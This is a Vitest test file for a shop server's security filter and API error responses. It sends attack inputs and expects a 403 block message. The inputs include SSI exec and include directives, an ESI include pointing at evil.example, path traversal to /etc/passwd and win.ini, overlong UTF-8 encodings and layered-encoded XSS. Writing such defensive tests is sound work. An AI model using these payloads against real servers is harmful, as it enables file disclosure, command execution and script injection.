import http from 'node:http';
import { describe, expect, it } from 'vitest';
import { setUpTestShop } from '~/tests/support/server';
import { expectContract } from '~/tests/support/api';
import { ApiError } from '~/shared/contract';
import { mixedCase, RAW_PATH_RE, RAW_QUERY_VALUE_RE, readFixture } from '~/tests/support/filter-fixtures';

// SPEC §5's last rule over HTTP: the filter's fixtures sent to the running server as a client
// would send them (raw bytes, no URL clean-up by the client), and the API's own answers under
// its prefix (JSON 404 / 405, never the storefront's page).

const BLOCKED = 'Доступ запрещен: обнаружена попытка внедрения вредоносного кода';

const shop = setUpTestShop();

interface RawAnswer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/**
 * One request with the target exactly as given. Node's HTTP parser refuses bytes above 0x7f in a
 * target (400 before any application code), so callers percent-encode non-ASCII as browsers do.
 */
function send(target: string, method = 'GET', headers: Record<string, string> = {}, body?: string): Promise<RawAnswer> {
  const { hostname, port } = new URL(shop.baseUrl);
  return new Promise((resolve, reject) => {
    // A body always has its length: Node sends DELETE and OPTIONS bodies unframed otherwise.
    const framed = body === undefined ? headers : { ...headers, 'content-length': String(Buffer.byteLength(body)) };
    const req = http.request({ hostname, port, path: target, method, headers: framed, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Sends all targets a few at a time; returns those whose answer `wrong` finds fault with. */
async function sendAll(targets: string[], wrong: (answer: RawAnswer) => string | null): Promise<string[]> {
  const failures: string[] = [];
  let next = 0;
  const worker = async () => {
    while (next < targets.length) {
      const target = targets[next++]!;
      const answer = await send(target);
      const fault = wrong(answer);
      if (fault) failures.push(`${fault}: ${target}`);
    }
  };
  await Promise.all(Array.from({ length: 8 }, worker));
  return failures;
}

/** The text percent-encoded `times` times over. */
function layers(text: string, times: number): string {
  let out = text;
  for (let i = 0; i < times; i++) out = encodeURIComponent(out);
  return out;
}

const notBlocked = (a: RawAnswer) =>
  a.status === 403 && a.body === BLOCKED ? null : `${a.status} ${a.body.slice(0, 80)}`;

describe('the attack fixtures over HTTP', () => {
  const attacks = readFixture('attack-strings.txt');
  // What Node's server takes in a target as it is: printable ASCII.
  const sendableRaw = (text: string) => /^[\x21-\x7e]*$/.test(text);

  it('answers every attack string 403 with the exact text, raw, encoded once, twice and in mixed case, in the path and in a value', async () => {
    const targets = new Set<string>();
    for (const { text } of attacks) {
      for (const variant of new Set([text, mixedCase(text)])) {
        const once = encodeURIComponent(variant);
        targets.add(`/backend/catalog/?q=${once}`);
        targets.add(`/search/?q=${encodeURIComponent(once)}`);
        targets.add(`/catalog/${once}/`);
        targets.add(`/backend/catalog/${encodeURIComponent(once)}/`);
        if (RAW_QUERY_VALUE_RE.test(variant)) targets.add(`/search/?q=${variant}`);
        if (RAW_PATH_RE.test(variant)) targets.add(`/media/${variant}`);
        if (sendableRaw(variant)) targets.add(`/backend/search/?q=${variant}`);
      }
    }
    expect(targets.size).toBeGreaterThan(2000);
    expect(await sendAll([...targets], notBlocked)).toEqual([]);
  }, 120_000);

  it('lets every honest URL through, never with a 5xx', async () => {
    // As a browser sends them: spaces and non-ASCII percent-encoded, the rest as written.
    const honest = readFixture('honest-urls.txt').map(({ text }) =>
      text.replace(/[^\x21-\x7e]/gu, (ch) => encodeURIComponent(ch)),
    );
    const failures = await sendAll(honest, (a) =>
      a.status === 403 || a.status >= 500 ? `${a.status} ${a.body.slice(0, 80)}` : null,
    );
    expect(failures).toEqual([]);
  }, 60_000);
});

describe('each hardening class over HTTP', () => {
  it.each([
    // Server-side and edge-side includes.
    '/search/?q=%3C!--%23exec%20cmd%3D%22id%22--%3E',
    '/backend/catalog/?q=<!--#include%20virtual="/index.html"-->',
    '/search/?q=%3C!--%23echo%20var%3D%22REMOTE_ADDR%22--%3E',
    '/search/?q=%3Cesi:include%20src=%22http://evil.example/%22/%3E',
    // System directories whatever the file.
    '/etc/vitrina.conf',
    '/usr/local/etc/x.conf',
    '/var/tmp/x',
    '/proc/sys/kernel/hostname',
    '/backend/catalog/?file=/etc/anything',
    '/img?src=/var/cache/app/x',
    // Markers under more layers of percent-encoding than the filter used to undo (three).
    `/search/?q=${layers('<script>', 4)}`,
    `/backend/catalog/?q=${layers('../../etc/passwd', 4)}`,
    `/search/?q=${layers('<img src=x onerror=alert(1)>', 7)}`,
    // Overlong and invalid UTF-8 dots and slashes in a value.
    '/search/?q=%c0%ae%c0%ae',
    '/search/?q=%c1%1c',
    '/backend/catalog/?path=..%c1%1c..%c1%1c',
  ])('%s: 403 with the exact text', async (target) => {
    const res = await send(target);
    expect(res.status).toBe(403);
    expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(res.body).toBe(BLOCKED);
  });

  it.each([
    '/%c0%ae%c0%ae/etc/passwd',
    '/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini',
    '/backend/catalog/%c0%ae%c0%ae/etc/passwd',
    '/media/%c0%af%c0%afetc%c0%afhosts',
    '/%3Cscript%3E%ff/',
  ])('blocks %s, which the router cannot decode, with the filter’s 403', async (target) => {
    const res = await send(target);
    expect(res.status).toBe(403);
    expect(res.body).toBe(BLOCKED);
  });

  it('still answers an undecodable address without a marker 400 in the API’s shape', async () => {
    for (const target of ['/backend/catalog/%', '/catalog/%E0%A4%A/', '/backend/catalog/%ff/']) {
      const res = await send(target);
      expect(res.status, target).toBe(400);
      expectContract(ApiError, JSON.parse(res.body), target);
    }
  });
});

describe('answers under the API prefix', () => {
  it('answers an unknown address 404 as JSON, whatever the method and body', async () => {
    for (const [method, target] of [
      ['GET', '/backend/nothing-here/'],
      ['GET', '/backend/api/personal/nothing.php'],
      ['POST', '/backend/nothing-here/'],
      ['DELETE', '/backend/api/'],
      ['PUT', '/backend'],
      ['OPTIONS', '/backend/nothing-here/'],
    ] as const) {
      const res = await send(
        target,
        method,
        { 'content-type': 'application/x-unknown' },
        method === 'GET' ? undefined : 'x',
      );
      expect(res.status, `${method} ${target}`).toBe(404);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(JSON.parse(res.body)).toEqual({ error: 'Страница не найдена' });
    }
  });

  it('answers a method an address does not take 405 with Allow, as JSON', async () => {
    for (const [method, target, allow] of [
      ['DELETE', '/backend/catalog/woman/', 'GET, HEAD'],
      ['POST', '/backend/catalog/?iscollection=no', 'GET, HEAD'],
      ['PUT', '/backend/content/pages/about/', 'GET, HEAD'],
      ['GET', '/backend/api/personal/orders.php', 'POST'],
      ['PATCH', '/backend/api/personal/send_sms.php', 'POST'],
    ] as const) {
      const res = await send(target, method, { 'content-type': 'text/plain' }, method === 'GET' ? undefined : 'x');
      expect(res.status, `${method} ${target}`).toBe(405);
      expect(res.headers.allow, `${method} ${target}`).toBe(allow);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expectContract(ApiError, JSON.parse(res.body), target);
    }
  });

  it('answers HEAD without a body, found or not', async () => {
    for (const [target, status] of [
      ['/backend/catalog/?iscollection=no', 200],
      ['/backend/nothing-here/', 404],
      ['/backend/api/personal/orders.php', 405],
    ] as const) {
      const res = await send(target, 'HEAD');
      expect(res.status, target).toBe(status);
      expect(res.body, target).toBe('');
    }
  });
});
